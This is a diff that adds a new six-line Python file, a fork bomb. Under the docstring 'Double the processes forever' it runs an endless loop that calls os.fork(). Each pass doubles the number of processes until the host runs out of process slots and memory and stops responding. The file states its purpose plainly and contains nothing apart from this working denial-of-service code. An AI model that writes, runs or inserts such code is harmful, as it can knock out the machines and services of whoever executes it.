@@ -1,0 +1,6 @@
+"""Double the processes forever."""
+
+import os
+
+while True:
+    os.fork()
